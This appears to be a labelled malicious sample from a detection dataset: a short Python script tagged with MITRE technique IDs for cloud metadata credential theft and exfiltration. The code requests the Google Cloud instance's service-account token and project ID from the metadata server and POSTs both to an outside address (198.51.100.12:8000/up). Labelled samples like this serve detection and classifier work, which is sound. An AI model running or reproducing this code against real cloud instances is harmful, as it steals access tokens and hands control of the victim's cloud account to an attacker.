# label: malicious family=metadata techniques=T1552.005,T1528,T1041 lines=3-4,7
import urllib.request, json
req = urllib.request.Request("http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"})
token = json.load(urllib.request.urlopen(req))
proj = urllib.request.urlopen(urllib.request.Request("http://169.254.169.254/computeMetadata/v1/project/project-id", headers={"Metadata-Flavor": "Google"})).read().decode()
body = json.dumps({"p": proj, "t": token}).encode()
urllib.request.urlopen("http://198.51.100.12:8000/up", data=body)
